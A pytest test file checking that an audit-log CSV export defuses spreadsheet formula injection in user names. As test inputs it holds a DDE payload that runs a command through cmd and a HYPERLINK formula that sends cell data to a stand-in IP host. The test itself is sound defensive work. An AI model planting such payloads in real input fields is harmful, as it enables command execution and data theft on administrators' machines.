"""The audit CSV export opened in Excel: a user name typed at the login form must not become a live formula.

Anyone can type ``=cmd|' /C calc'!A0`` as a user name; the failed login is recorded with that name, and the
admin's export is opened in Excel.  Every text cell that a spreadsheet would evaluate gets a leading '.
"""

from __future__ import annotations

import csv
import io

import pytest

from store import AuthenticationError, Store, User

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://203.0.113.9/?d="&A1,"详情")', "+1+2", "-2+3", "@SUM(A1)"]


def test_audit_csv_neutralises_formula_like_text(store: Store, admin: User) -> None:
    for name in ATTACKS:
        with pytest.raises(AuthenticationError):
            store.authenticate(name, "wrong-password-1")
    rows = list(csv.reader(io.StringIO(store.export_audit_csv(admin).decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    failed = [r for r in body if r[header.index("action")] == "login_failed"]
    assert sorted(r[header.index("username")] for r in failed) == sorted("'" + a for a in ATTACKS)
    assert sorted(r[header.index("entity_id")] for r in failed) == sorted("'" + a for a in ATTACKS)
    assert all(r[header.index("id")].isdigit() for r in body)  # numbers are not touched
